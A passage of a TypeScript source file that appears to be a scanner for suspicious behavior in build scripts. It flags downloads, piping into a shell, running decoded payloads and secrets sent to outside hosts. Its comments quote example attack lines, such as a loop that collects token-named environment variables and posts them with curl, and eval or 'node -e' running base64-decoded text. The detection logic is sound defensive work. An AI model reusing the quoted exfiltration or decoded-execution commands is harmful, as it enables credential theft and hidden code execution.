 * request a credential (a header, `-u`, a password option). At most 50 names.
 */
function secretUrlsAcrossLines(lines: readonly SourceLine[], codeLanguage: CodeLanguage, requested: Set<number>): Set<number> {
  const secrets = new Map<string, string[]>();
  const urls = new Set<string>();
  const out = new Set<number>();
  for (const { line, text } of lines) {
    const { code, masked, isComment } = codeText(text, codeLanguage);
    if (isComment || code.trim() === '') continue;
    const assigned = ASSIGNMENT.exec(code);
    const held = [...secrets.keys()].filter((name) => usesName(code, masked, name));
    const credential = AS_CREDENTIAL.test(code) || PASSWORD_OPTION.test(code);
    // What a URL of the line carries: a secret read there, or one a name holds.
    const ranges = credential ? [] : requestUrlRanges(code, false, masked);
    const hosts = ranges.flatMap(([start, end]) => [...code.slice(start, end).matchAll(LINE_URL_HOST)].map((m) => (m[1] ?? '').toLowerCase()));
    const sentHeld = held.some((name) => ranges.some(([start, end]) => usesName(code.slice(start, end), masked.slice(start, end), name)) && !(secrets.get(name) ?? []).some((env) => secretForItsOwnPlace(env, hosts)));
    const urlWithSecret = sentHeld || (ranges.length > 0 && secretInRequestUrl(code, false) && !secretsGoToTheirOwnHosts(code));
    const urlNames = [...urls].filter((name) => usesName(code, masked, name));
    if (!credential && (sentHeld || urlNames.length > 0)) out.add(line);
    // A request given such a URL by its name (`fetch(url)`, `http.Get(u)`, `urlopen(url)`): the line fetches, whatever the call.
    if (!credential && urlNames.some((name) => requestOf(name).test(masked))) requested.add(line);
    if (assigned === null || secrets.size + urls.size >= 50) continue;
    const name = assigned[1] ?? '';
    const rest = code.slice(assigned[0].length);
    const restMasked = masked.slice(assigned[0].length);
    if (urlWithSecret) urls.add(name);
    else if (/\w/.test(restMasked.replace(/["'`]/g, ''))) {
      // A secret read from the environment (not its name alone in a literal), or a name that holds one.
      const envNames = [...rest.matchAll(URL_VARIABLE_NAME)].map((m) => m[0]).filter((v) => readsSecretFromEnvironment(v) || SIGNING_KEY_NAME.test(v));
      if (envNames.length > 0) secrets.set(name, envNames);
      else if (held.length > 0) secrets.set(name, held.flatMap((h) => secrets.get(h) ?? []));
    }
  }
  return out;
}

/** A request call given `name` as its URL: `fetch(url`, `urlopen(url`, `http.Get(u`, `axios.get(url`, `got(url`, `http.NewRequest("GET", u`. */
function requestOf(name: string): RegExp {
  return new RegExp(
    String.raw`(?:\b(?:fetch|urlopen|got|axios|needle|request|Invoke-WebRequest)|\.(?:get|post|put|patch|request|Get|Post|Head|urlopen|openConnection|GET|POST))\s*\(\s*(?:ctx\s*,\s*)?(?:["'][A-Z]{3,7}["']\s*,\s*|http\.Method\w{1,10}\s*,\s*)?${escapeRegExp(name)}(?![\w.$])`,
  );
}

/** Every behavior of the given lines, in line order, each kind once per line. */
export function readBehaviors(lines: readonly SourceLine[], language: BuildLanguage, options: ReadOptions = {}): Behavior[] {
  const found: Behavior[] = [];
  const codeLanguage = codeLanguageOf(language);
  const isProgram = PROGRAM_LANGUAGES.has(language);
  const decoded = isProgram ? decodedNames(lines, codeLanguage) : new Set<string>();
  const decodedToShell = isProgram ? decodedGivenToShell(lines, codeLanguage, decoded) : new Set<number>();
  const requestedSecretUrl = new Set<number>();
  // Shell lines that unpack data into a file (decodedTarget), read against the lines that run files after the loop.
  const decodedToFiles: { line: number; text: string; file: string }[] = [];
  const heldSecretSent = isProgram && codeLanguage !== null ? secretUrlsAcrossLines(lines, codeLanguage, requestedSecretUrl) : new Set<number>();
  for (const { line, text } of lines) {
    const { code: read, masked, isComment } = codeText(text, codeLanguage);
    if (isComment || read.trim() === '') continue;
    const code = language === 'shell' && read.includes('A') ? read.replace(MESSAGE_MACRO, '$1([])') : read;
    const kinds = new Set<BehaviorKind>();
    const piped = findPipeToShell(code).length > 0;
    const runs = piped || EXECUTE.any?.test(code) === true || EXECUTE[language]?.test(code) === true || processSink(language, code);
    if (piped || matches(DOWNLOAD, language, code, runs) || requestedSecretUrl.has(line)) kinds.add('download');
    if (runs) kinds.add('execute');
    const shell = SHELL_PROGRAM.exec(code);
    const xml = language === 'xml' ? XML_PROGRAM.exec(code) : null;
    const program = PROGRAM.exec(code)?.[1] ?? shell?.[1] ?? shell?.[2] ?? xml?.[1] ?? xml?.[2];
    if (program !== undefined && dataExtension(program)) kinds.add('disguised-binary');
    // rundll32 or regsvr32 loading a file not named like a DLL: a binary in disguise.
    const loaded = RUNDLL.exec(code)?.[1];
    if (loaded !== undefined && !loaded.includes('$') && !DLL_EXTENSIONS.test(loaded)) kinds.add('disguised-binary');
    if (loadsNativeCode(code)) kinds.add('native-load');
    if (readsCredentialStore(code)) kinds.add(writesRegistryCredentialFile(code) ? 'credential-file-write' : 'credential-file');
    // A token sent only to the service its name names (a release upload with GITHUB_TOKEN) is that service's credential in use, not a theft.
    if (readsSecretFromEnvironment(code) && !secretsGoToTheirOwnHosts(code) && !(options.dockerfile === true && DOCKERFILE_DECLARATION.test(code))) kinds.add('credential-env');
    if (matches(WHOLE_ENVIRONMENT, language, code, runs) || (language === 'csharp' && CSHARP_WHOLE_ENVIRONMENT.test(code))) kinds.add('environment');
    // The variables named like secrets picked and their values sent on one line (`for v in $$(compgen -e | grep -i token); do curl -d "$${!v}" https://…; done`).
    const picked = language === 'shell' && secretNamedVariablesSent([code]) !== null;
    if (picked) kinds.add('environment');
    // A fetch whose URL carries a secret sends it (`URL("https://h/x?k=" + System.getenv("SIGNING_KEY")).readText()`), unless it goes to its own service.
    const urlSecret = kinds.has('download') && ((secretInRequestUrl(code, codeLanguage === 'shell' || codeLanguage === null) && !secretsGoToTheirOwnHosts(code)) || heldSecretSent.has(line));
    if (urlSecret) kinds.add('credential-env');
    if (picked || urlSecret || matches(SEND, language, code, runs)) {
      kinds.add('send');
      if (options.credentialNames !== undefined && sendsSecretElsewhere(code, options.credentialNames)) kinds.add('secret-elsewhere');
    }
    if (options.credentialNames !== undefined && language === 'shell' && printsEncoded(code, options.credentialNames)) kinds.add('printed-encoded');
    if (isSuspiciousEndpoint(code)) kinds.add('suspicious-host');
    // PowerShell's Invoke-Expression runs text whatever it is given (a download's too, which findPipeToShell also reads).
    if (language === 'shell' && (PIPE_INTO_POWERSHELL.test(code) || (!piped && PIPE_INTO_SHELL.test(code)))) kinds.add('pipe-to-shell');
    // `eval "$(… | xz -d)"`, `sh -c "$(base64 -d …)"`: decoded text run as shell code without a pipe.
    if (language === 'shell' && runsDecodedSubstitution(code)) {
      kinds.add('decode');
      kinds.add('pipe-to-shell');
    } else if (language === 'shell' && DECODE.test(code)) {
      // Unpacked into a file (`gzip -dc manual.txt.gz > manual.txt`) or into a tool that reads data
      // (`xz -dc x.tar.xz | tar x`): not text a shell runs, unless a line runs that file (read below).
      const target = kinds.has('pipe-to-shell') ? null : decodedTarget(code);
      if (target === null) kinds.add('decode');
      else if (target !== 'tool' && decodedToFiles.length < 20) decodedToFiles.push({ line, text: evidence(read), file: target });
    }
    if ((language === 'csharp' && CSHARP_DECODE.test(code)) || (runs && runsEncodedPowerShell(code))) kinds.add('decode');
    // Encoded PowerShell is decoded and run as code in one go.
    if (runs && runsEncodedPowerShell(code)) kinds.add('pipe-to-shell');
    // Program code that runs what it decoded: a code sink (eval, exec, Function) or a process call given decoded text.
    const hidden = language === 'js' && (jsSinkUnderAnotherName(code) !== null || LOADED_PROCESS_CALL.js?.test(code) === true);
    if (hidden) kinds.add('execute');
    if (isProgram && (runs || hidden || SINKS.code[language as CodeLanguage]?.test(masked) === true) && runsDecoded(code, decoded)) kinds.add('run-decoded');
    // A shell or an interpreter given decoded text as its script (XORed bytes or base64 turned into `sh -c` text).
    if (decodedToShell.has(line)) kinds.add('run-decoded');
    // A command line's inline program that decodes and runs (`node -e "…execSync(Buffer.from('…','base64')…)"`).
    if (!isProgram && INLINE_PROGRAM.test(code) && PROGRAM_DECODE.test(code) && INLINE_RUN.test(code)) kinds.add('run-decoded');
    if (piped && options.pipedDownloadsReadElsewhere === true) for (const kind of PIPED_DOWNLOAD_KINDS) kinds.delete(kind);
    const shown = evidence(read);
    for (const kind of kinds) found.push(kind === 'download' ? { kind, line, text: shown, source: downloadSource(code) } : { kind, line, text: shown });
  }
  if (language === 'shell') pushAll(found, secretsPickedAcrossLines(lines, found));
  // A file data was unpacked into that a line pipes into a shell or runs (`xz -dc x.xz > gen.sh`, then
  // `cat gen.sh | $(SHELL)`, `sh gen.sh` or `. ./gen.sh`): decoded text run, as on one line.
  if (decodedToFiles.length > 0) {
    const piped = new Set(found.filter((b) => b.kind === 'pipe-to-shell').map((b) => b.line));
    for (const d of decodedToFiles) {
      const base = d.file.slice(d.file.lastIndexOf('/') + 1);
      if (base === '') continue;
      for (const { line, text } of lines) {
        if (line === d.line || !text.includes(base) || /^\s*(?:#|dnl\b)/.test(text)) continue;
        const runs = runsFile(text, d.file) || runsFile(text, base);
        if (!runs && !piped.has(line)) continue;
        found.push({ kind: 'decode', line: d.line, text: d.text });
        if (!piped.has(line)) {
          piped.add(line);
          found.push({ kind: 'pipe-to-shell', line, text: evidence(text) });
        }
        break;
      }
    }
    found.sort((a, b) => a.line - b.line);
  }
  return found;
}

/**
 * The variables named like secrets picked on one line and their values sent from another
 * (a recipe's loop continued with `\`: `for v in $$(compgen -e | grep -i token); do \`, then
 * `echo "$$v=$${!v}" >> /tmp/o; done`, then `curl -d @/tmp/o https://…`): the environment taken at
 * the pick, a send at the line that sends, where the lines alone did not say so.
 */
function secretsPickedAcrossLines(lines: readonly SourceLine[], found: readonly Behavior[]): Behavior[] {
  const texts = lines.map(({ text }) => codeText(text, 'shell'));
  const pick = secretNamedVariablesSent(texts.map((t) => (t.isComment ? '' : t.code)));
  if (pick === null) return [];
  const at = (i: number): number => lines[i]?.line ?? 0;
  const out: Behavior[] = [];
  if (!found.some((b) => b.kind === 'environment' && b.line === at(pick.picked))) out.push({ kind: 'environment', line: at(pick.picked), text: evidence(texts[pick.picked]?.code ?? '') });
  if (!found.some((b) => b.kind === 'send' && b.line === at(pick.sent))) out.push({ kind: 'send', line: at(pick.sent), text: evidence(texts[pick.sent]?.code ?? '') });
  return out;
}
